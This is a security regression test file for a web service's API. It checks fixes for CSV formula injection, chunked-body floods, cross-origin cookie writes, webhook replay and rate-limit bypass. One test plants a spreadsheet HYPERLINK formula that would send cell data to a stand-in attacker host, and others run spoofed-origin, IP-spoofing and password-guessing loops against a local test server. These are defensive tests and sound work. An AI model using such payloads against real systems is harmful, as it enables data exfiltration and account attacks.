import { randomUUID } from "node:crypto";
import http from "node:http";
import { parse } from "papaparse";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { storeHeaders, shopifyOrder } from "@/lib/testing/store-fixtures";
import { startTestServer, type TestServer } from "@/lib/testing/test-server";
import { newCompany, type TestCompany } from "./support/fixtures";
import { call, expectError, sessionCookie } from "./support/http";

/** Issue 34's holes, over real HTTP: each test failed on the code before its fix. */
let co: TestCompany;
let token: string;

beforeAll(async () => {
  co = await newCompany("holes");
  token = (await co.token(["contacts:read", "contacts:write", "automations:write", "automations:read"])).token;
});

describe("CSV export (formula injection)", () => {
  it("writes a formula-like name with a leading apostrophe", async () => {
    const evil = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
    await co.contact({ name: evil, phone: "15550009001" });
    await co.contact({ name: "@SUM(1+1)", phone: "15550009002" });
    const res = await call<string>("GET", "/api/v1/contacts/export?sortBy=name&sortOrder=asc", { token });
    expect(res.status).toBe(200);
    const names = parse<Record<string, string>>(String(res.body), { header: true, skipEmptyLines: true }).data.map((r) => r.name);
    expect(names).toEqual(expect.arrayContaining([`'${evil}`, "'@SUM(1+1)"]));
    expect(names.filter((n) => /^[=+\-@\t\r]/.test(n))).toEqual([]);
  });
});

/**
 * Streams a chunked body (no Content-Length) of up to totalMb in 1 MB chunks; resolves with
 * the answer's status and how many MB had been written when it came.
 */
function streamBody(path: string, totalMb: number, headers: Record<string, string> = {}): Promise<{ status: number; sentMb: number; ms: number }> {
  const url = new URL(path, inject("baseUrl"));
  const started = Date.now();
  return new Promise((resolve, reject) => {
    let sent = 0;
    let done = false;
    const req = http.request(url, { method: "POST", headers: { "content-type": "application/json", ...headers } });
    req.on("response", (res) => {
      done = true;
      res.resume();
      resolve({ status: res.statusCode ?? 0, sentMb: sent, ms: Date.now() - started });
      req.destroy();
    });
    req.on("error", (err) => (done ? undefined : reject(err)));
    const chunk = Buffer.alloc(1024 * 1024, 32);
    const pump = () => {
      while (!done && sent < totalMb) {
        sent++;
        if (!req.write(chunk)) return void req.once("drain", pump);
      }
      if (!done) req.end();
    };
    pump();
  });
}

describe("bodies without Content-Length are read only up to the route's limit", () => {
  it.each([
    ["an API route", "/api/v1/contacts", { authorization: "" }],
    ["a store webhook", `/api/webhook/storeplugin/sc_${randomUUID()}`, {}],
    ["a channel webhook", "/api/channels/chatapp/webhook", {}],
    ["a web-event endpoint", `/api/webhook/web-events/wi_${randomUUID()}`, {}],
    ["next-auth's sign-in", "/api/auth/callback/credentials", { "content-type": "application/x-www-form-urlencoded" }],
  ])("%s answers 413 long before a 200 MB chunked body is sent", async (_what, path, headers) => {
    const h: Record<string, string> = { ...headers };
    if ("authorization" in h) h.authorization = `Bearer ${token}`;
    const res = await streamBody(path, 200, h);
    expect(res.status).toBe(413);
    expect(res.sentMb).toBeLessThan(100);
  });
});

describe("content types and cross-site writes", () => {
  it("refuses text/plain; charset=json with 415", async () => {
    const res = await call("POST", "/api/v1/contacts", { token, rawBody: JSON.stringify({ name: "Plain" }), headers: { "content-type": "text/plain; charset=json" } });
    expectError(res, 415, "UNSUPPORTED_MEDIA_TYPE");
    expect((await call("POST", "/api/v1/contacts", { token, body: { name: "Json" }, headers: { "content-type": "application/json; charset=utf-8" } })).status).toBe(200);
  });

  it("refuses a cookie-authenticated write from another origin, not a bearer one", async () => {
    const cookie = await sessionCookie(co.owner.email, co.owner.password);
    const evil = { origin: "https://evil.example" };
    const cross = expectError(await call("POST", "/api/v1/contacts", { cookie, body: { name: "Forged" }, headers: evil }), 403, "FORBIDDEN");
    expect(cross.message).toMatch(/Origin https:\/\/evil.example/);
    expectError(await call("POST", "/api/v1/contacts", { cookie, body: { name: "Forged" }, headers: { referer: "https://evil.example/page" } }), 403, "FORBIDDEN");
    expectError(await call("POST", "/api/v1/contacts", { cookie, body: { name: "Forged" }, headers: { origin: "null" } }), 403, "FORBIDDEN");
    expectError(await call("POST", "/api/v1/contacts", { cookie, body: { name: "Forged" }, headers: { "sec-fetch-site": "cross-site" } }), 403, "FORBIDDEN");
    // Reads are not writes; the service's own pages and bearer callers are not cross-site.
    expect((await call("GET", "/api/v1/contacts", { cookie, headers: evil })).status).toBe(200);
    expect((await call("POST", "/api/v1/contacts", { cookie, body: { name: "Own page" }, headers: { origin: inject("baseUrl") } })).status).toBe(200);
    expect((await call("POST", "/api/v1/contacts", { token, body: { name: "Bearer" }, headers: evil })).status).toBe(200);
  });

  it("web events take JSON labelled application/json or text/plain, and refuse other types", async () => {
    const created = await call<{ id: string }>("POST", "/api/v1/web-events", { token, body: { name: "Beacon site", authType: "API_KEY", contactMapping: { emailField: "email" } } });
    expect(created.status, JSON.stringify(created.body)).toBe(200);
    const secret = (await call<{ secret: string }>("GET", `/api/v1/web-events/${created.body.id}/secret`, { token: co.ownerJwt })).body.secret;
    const raw = JSON.stringify({ event: "signup", email: "beacon@example.test" });
    const post = (type: string) => call("POST", `/api/webhook/web-events/${created.body.id}`, { rawBody: raw, headers: { "content-type": type, "x-api-key": secret } });
    expect((await post("text/plain;charset=UTF-8")).status).toBe(200);
    expect((await post("application/json")).status).toBe(200);
    expectError(await post("application/x-www-form-urlencoded"), 415, "UNSUPPORTED_MEDIA_TYPE");
    expectError(await post("text/plain-not; charset=json"), 415, "UNSUPPORTED_MEDIA_TYPE");
  });
});

describe("store webhook replay", () => {
  it("never applies the same signed delivery twice, whatever its (unsigned) webhook id", async () => {
    const store = (await call<{ id: string; webhookPath: string; secret: string }>("POST", "/api/v1/storeplugin/connections", { token: co.ownerJwt, body: { platform: "SHOPIFY", shopDomain: `holes-${Date.now()}.myshopify.com` } })).body;
    const orderId = Number(String(Date.now()).slice(-9));
    const raw = JSON.stringify(shopifyOrder({ id: orderId, number: 3001, phone: "+15550009003" }));
    const first = await call<{ status: string; orderId: string }>("POST", store.webhookPath, { rawBody: raw, headers: storeHeaders(store.secret, raw, "orders/create") });
    expect(first.body.status).toBe("processed");
    const replay = await call<{ status: string }>("POST", store.webhookPath, { rawBody: raw, headers: storeHeaders(store.secret, raw, "orders/create", { webhookId: randomUUID() }) });
    expect(replay.status).toBe(200);
    expect(replay.body.status).toBe("ignored");
    const connection = await call<{ webhookCount: number }>("GET", `/api/v1/storeplugin/connections/${store.id}`, { token: co.ownerJwt });
    expect(connection.body.webhookCount).toBe(1);
    // A webhook id of the receipts' own form is refused.
    expectError(await call("POST", store.webhookPath, { rawBody: raw, headers: storeHeaders(store.secret, raw, "orders/create", { webhookId: "sha256:abc" }) }), 401, "UNAUTHORIZED");
  });
});

describe("the client address under the default TRUSTED_PROXIES (none)", () => {
  it("ignores a rotating X-Forwarded-For: one address, one count", async () => {
    const remaining: number[] = [];
    for (let i = 0; i < 4; i++) {
      const res = await call("POST", "/api/v1/auth/token", { body: { email: "nobody@holes.test", password: "wrong" }, headers: { "x-forwarded-for": `198.51.100.${i + 10}` } });
      remaining.push(Number(res.headers.get("x-ratelimit-remaining")));
    }
    // Counted in one bucket (other files may count in it too): strictly fewer left each time.
    for (let i = 1; i < remaining.length; i++) expect(remaining[i]).toBeLessThan(remaining[i - 1]);
  });
});

/** A server of its own, behind a "proxy" (the test itself on 127.0.0.1) that names the client. */
describe("failed credentials, throttled on their own counters", () => {
  let server: TestServer;
  const owner = { email: "owner@throttle.test", password: "right-password-1" };
  const at = async (ip: string, method: string, path: string, body?: unknown, headers: Record<string, string> = {}) => {
    const res = await fetch(`${server.baseUrl}${path}`, {
      method,
      headers: { "x-forwarded-for": ip, ...(body ? { "content-type": "application/json" } : {}), ...headers },
      body: body ? JSON.stringify(body) : undefined,
    });
    await res.arrayBuffer();
    return res.status;
  };
  const signIn = (ip: string, password: string) => at(ip, "POST", "/api/v1/auth/token", { email: owner.email, password });

  beforeAll(async () => {
    server = await startTestServer("throttle", 3520, {
      TRUSTED_PROXIES: "127.0.0.1",
      RATE_LIMIT_AUTH_FAILURES_PER_ADDRESS: "20",
      RATE_LIMIT_AUTH_FAILURES_PER_ACCOUNT: "5",
      RATE_LIMIT_ANONYMOUS_PER_MINUTE: "50",
    });
    const res = await fetch(`${server.baseUrl}/api/v1/setup`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ companyName: "Throttle Co", name: "Owner", ...owner }) });
    expect(res.status).toBe(200);
  }, 120_000);
  afterAll(async () => {
    await server?.stop();
  });

  it("stops password guessing for an account, yet lets the owner in from an address in good standing", async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 25; i++) statuses.push(await signIn("198.51.100.66", `guess-${i}`));
    expect(statuses.slice(0, 5)).toEqual([401, 401, 401, 401, 401]);
    expect(statuses.slice(5)).toEqual(Array(20).fill(429));
    expect(await signIn("198.51.100.66", owner.password)).toBe(429);
    // Someone else's failures do not lock the owner out.
    expect(await signIn("203.0.113.5", owner.password)).toBe(200);
  });

  it("throttles a flood of bad bearer tokens per address, without touching health or other addresses", async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 60; i++) statuses.push(await at("198.51.100.77", "GET", "/api/v1/contacts", undefined, { authorization: `Bearer service_${randomUUID()}` }));
    expect(statuses.slice(0, 20)).toEqual(Array(20).fill(401));
    expect(statuses.slice(20)).toEqual(Array(40).fill(429));
    for (let i = 0; i < 60; i++) expect(await at("198.51.100.77", "GET", "/api/health")).toBe(200);
    expect(await signIn("203.0.113.6", owner.password)).toBe(200);
  });

  it("takes the address from a trusted proxy only: a client's own peer header is overwritten", async () => {
    // 198.51.100.66 is throttled; naming another address in the stamped header does not escape it.
    expect(await at("198.51.100.66", "POST", "/api/v1/auth/token", { email: owner.email, password: owner.password }, { "x-service-peer": "10.1.1.1" })).toBe(429);
  });
});
